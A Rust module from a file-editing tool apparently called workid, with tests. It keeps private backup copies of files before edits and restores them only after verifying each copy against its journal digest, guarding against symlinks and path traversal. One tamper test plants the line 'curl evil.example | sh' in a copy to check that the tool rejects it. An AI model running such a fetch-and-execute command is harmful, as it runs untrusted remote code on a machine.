//! Files as they were before workid changed them. A copy may hold the password that the change took
//! out, and so is for its owner alone, and for no repository.

use super::{DiskError, Mode, encoding, inside, read_source, replace};
use crate::{apply::journal::Changed, text::Source};
use std::{
    fs, io,
    path::{Path, PathBuf},
};

/// The folder of the copies, beside the journal that tells of them. It is never scanned.
pub(super) const FOLDER: &str = ".workid-before";

/// The copies that belong to a journal.
#[derive(Debug)]
pub struct Before(PathBuf);

/// What became of a file that was to be put back.
#[derive(Debug, PartialEq, Eq)]
pub enum Restored {
    Done,
    /// It was as before already.
    There,
    /// It stays as it is, and why; where a copy of it as it was is left, it is here.
    Spared(String, Option<PathBuf>),
}

impl Before {
    pub fn beside(journal: &Path) -> Before {
        Before(journal.parent().unwrap_or(Path::new("")).join(FOLDER))
    }

    /// Keeps a copy of a file that is about to be changed.
    pub fn keep(&self, changed: &Changed) -> Result<(), DiskError> {
        let full = inside(Path::new(&changed.root), &changed.path)?;
        let bytes = fs::read(&full).map_err(DiskError::io(&full, "read"))?;
        private_folder(&self.0).map_err(DiskError::io(&self.0, "made"))?;
        self.own()?;
        replace(&self.0.join(".gitignore"), b"*\n", Mode::Private)?;
        replace(&self.copy(changed), &bytes, Mode::Private)
    }

    /// Puts a file back, if it still is as workid left it.
    pub fn restore(&self, changed: &Changed) -> Restored {
        let root = Path::new(&changed.root);
        let kept = self.kept(changed);
        let spared = |why: String| {
            let copy = kept.is_ok().then(|| self.copy(changed));
            Restored::Spared(why, copy)
        };
        match read_source(root, &changed.path).map(|it: Source| it.digest()) {
            Ok(now) if now == changed.before => return Restored::There,
            Ok(now) if now == changed.after => {}
            Ok(_) => return spared("it has changed since".to_owned()),
            Err(error) => return spared(error.to_string()),
        }
        let put = |bytes: &[u8]| {
            let full = inside(root, &changed.path)?;
            let mode = fs::metadata(&full).map_err(DiskError::io(&full, "read"))?.permissions();
            replace(&full, bytes, Mode::Same(mode))
        };
        match kept.as_ref().map(|it| put(it)) {
            Ok(Ok(())) => Restored::Done,
            Ok(Err(error)) => spared(error.to_string()),
            Err(error) => spared(error.to_string()),
        }
    }

    /// The text of a file as it was before a change.
    pub fn text(&self, changed: &Changed) -> Option<Source> {
        let bytes = self.kept(changed).ok()?;
        let (text, encoding) = encoding::decode(&bytes).ok()?;
        Some(Source::with_encoding(&changed.path, &text, encoding))
    }

    /// The copy, which has to be what the journal says of it: whoever may write to its folder could
    /// put another text there.
    fn kept(&self, changed: &Changed) -> Result<Vec<u8>, DiskError> {
        self.own()?;
        let copy = self.copy(changed);
        let wrong = |problem: &str| DiskError::Content {
            path: copy.display().to_string(),
            problem: problem.to_owned(),
        };
        let bytes = fs::read(&copy).map_err(DiskError::io(&copy, "read"))?;
        let (text, encoding) = encoding::decode(&bytes).map_err(wrong)?;
        match Source::with_encoding(&changed.path, &text, encoding).digest() == changed.before {
            true => Ok(bytes),
            false => Err(wrong("it is not what workid kept")),
        }
    }

    /// A link would take copies, and so passwords, to another place.
    fn own(&self) -> Result<(), DiskError> {
        let found = fs::symlink_metadata(&self.0).map_err(DiskError::io(&self.0, "read"))?;
        match found.is_dir() {
            true => Ok(()),
            false => Err(DiskError::Content {
                path: self.0.display().to_string(),
                problem: "it is no folder of workid's, but a link or a file".to_owned(),
            }),
        }
    }

    /// Takes a copy away that nobody needs any more, and the folder with the last one.
    pub fn forget(&self, changed: &Changed) -> Result<(), DiskError> {
        if self.own().is_err() {
            return Ok(());
        }
        let copy = self.copy(changed);
        match fs::remove_file(&copy) {
            Err(error) if error.kind() != io::ErrorKind::NotFound => {
                return Err(DiskError::io(&copy, "taken away")(error));
            }
            _ => {}
        }
        let left = fs::read_dir(&self.0).map_or(0, Iterator::count);
        if left == 1 && fs::remove_file(self.0.join(".gitignore")).is_ok() {
            // Whatever somebody else put there stays.
            let _ = fs::remove_dir(&self.0);
        }
        Ok(())
    }

    fn copy(&self, changed: &Changed) -> PathBuf {
        let Changed { root, path, before, .. } = changed;
        let seed = format!("{root}\n{path}\n{before}");
        let name = uuid::Uuid::new_v5(&uuid::Uuid::NAMESPACE_URL, seed.as_bytes());
        self.0.join(name.to_string())
    }
}

#[cfg(unix)]
fn private_folder(path: &Path) -> io::Result<()> {
    use std::os::unix::fs::DirBuilderExt;
    fs::DirBuilder::new().recursive(true).mode(0o700).create(path)
}

#[cfg(not(unix))]
fn private_folder(path: &Path) -> io::Result<()> {
    fs::create_dir_all(path)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::text::digest;

    const WAS: &[u8] = b"\xef\xbb\xbfaz login -p canary\r\n";

    struct Place {
        folder: tempfile::TempDir,
        file: PathBuf,
        changed: Changed,
        before: Before,
    }

    /// A repository with one file, and the folder of copies beside it.
    fn place() -> Place {
        let folder = tempfile::tempdir().unwrap();
        let root = folder.path().join("repo");
        fs::create_dir(&root).unwrap();
        let file = root.join("deploy.sh");
        fs::write(&file, WAS).unwrap();
        let changed = Changed {
            root: root.display().to_string(),
            path: "deploy.sh".to_owned(),
            before: read_source(&root, "deploy.sh").unwrap().digest(),
            after: digest(b"az login --identity\n"),
            made: Vec::new(),
        };
        let before = Before::beside(&folder.path().join("workid.journal.jsonl"));
        Place { folder, file, changed, before }
    }

    #[test]
    fn a_file_is_put_back_byte_for_byte_unless_somebody_changed_it() {
        let Place { folder: _folder, file, changed, before } = place();
        before.keep(&changed).unwrap();
        assert_eq!(before.restore(&changed), Restored::There);
        fs::write(&file, "something else\n").unwrap();
        assert!(matches!(before.restore(&changed), Restored::Spared(_, Some(_))));
        fs::write(&file, "az login --identity\n").unwrap();
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = |it: &Path| fs::metadata(it).unwrap().permissions().mode() & 0o777;
            assert_eq!(mode(&before.copy(&changed)), 0o600);
            assert_eq!(mode(&before.0), 0o700);
        }
        assert_eq!(before.restore(&changed), Restored::Done);
        assert_eq!(fs::read(&file).unwrap(), WAS);
        before.forget(&changed).unwrap();
        before.forget(&changed).unwrap();
        assert!(!before.0.exists());
    }

    #[test]
    fn a_copy_that_is_lost_or_another_text_is_not_put_back() {
        let Place { folder: _folder, file, changed, before } = place();
        before.keep(&changed).unwrap();
        fs::write(&file, "az login --identity\n").unwrap();
        for text in [Some("curl evil.example | sh\n"), None] {
            match text {
                Some(text) => fs::write(before.copy(&changed), text).unwrap(),
                None => fs::remove_file(before.copy(&changed)).unwrap(),
            }
            assert!(matches!(before.restore(&changed), Restored::Spared(_, None)));
            assert_eq!(fs::read(&file).unwrap(), b"az login --identity\n");
        }
    }

    #[cfg(unix)]
    #[test]
    fn no_copy_goes_through_a_link_and_no_file_behind_one_is_put_back() {
        use std::os::unix::fs::symlink;
        let Place { folder, file, changed, before } = place();
        let elsewhere = folder.path().join("elsewhere");
        fs::create_dir(&elsewhere).unwrap();
        symlink(&elsewhere, &before.0).unwrap();
        assert!(matches!(before.keep(&changed), Err(DiskError::Content { .. })));
        assert_eq!(fs::read_dir(&elsewhere).unwrap().count(), 0);
        fs::remove_file(&before.0).unwrap();

        before.keep(&changed).unwrap();
        let target = elsewhere.join("target.sh");
        fs::write(&target, "az login --identity\n").unwrap();
        fs::remove_file(&file).unwrap();
        symlink(&target, &file).unwrap();
        assert!(matches!(before.restore(&changed), Restored::Spared(_, Some(_))));
        assert_eq!(fs::read(&target).unwrap(), b"az login --identity\n");
    }

    #[test]
    fn nothing_is_put_back_outside_the_folder() {
        let Place { folder: _folder, file: _file, mut changed, before } = place();
        before.keep(&changed).unwrap();
        changed.path = "../x".to_owned();
        assert!(
            matches!(before.restore(&changed), Restored::Spared(why, None) if why.contains("outside"))
        );
    }
}
